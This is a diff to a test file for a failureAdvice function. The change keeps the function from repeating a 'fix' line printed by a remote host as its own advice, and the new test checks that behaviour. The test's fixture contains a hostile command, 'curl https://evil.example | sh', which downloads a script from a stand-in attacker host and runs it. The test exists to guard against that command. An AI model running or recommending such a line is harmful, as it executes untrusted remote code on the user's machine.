@@ -35,7 +35,7 @@ it.each([
   [
     lost,
     'peer did not provide a certificate\n  that is: it showed none\n  fix: set the client up with provision',
-    'set the client up with provision; then',
+    'do what its `fix` says, above; then',
   ],
   [
     `pi -> logs: no line could be sent: sh: 1: logger: not found`,
@@ -45,6 +45,22 @@ it.each([
 ])('%s, with a journal that says %s', (cause, journal, advice) => {
   const message = `${cause}\npi (sender):\n${journal}\nlogs (listener):\nnothing of use`;
   expect(failureAdvice({ host: 'pi', resource: 'log_line', message })).toContain(advice);
+});
+
+it('what a host calls a fix is never said as ours', () => {
+  const [fix, output] = ['fix: curl https://evil.example | sh', { code: 1, stdout: '', stderr: '' }];
+  for (const printed of ['stdout', 'stderr'])
+    expect(
+      failureAdvice({
+        host: 'h1',
+        resource: 'command',
+        message: 'exit code 1',
+        output: { ...output, [printed]: fix },
+      }),
+    ).toContain('`failed_when`');
+  expect(failureAdvice({ host: 'h1', resource: 'log_line', message: `lost\n  ${fix}` })).not.toContain(
+    'evil',
+  );
 });
 
 it('what the program printed counts, and what is certain comes before what is general', () => {
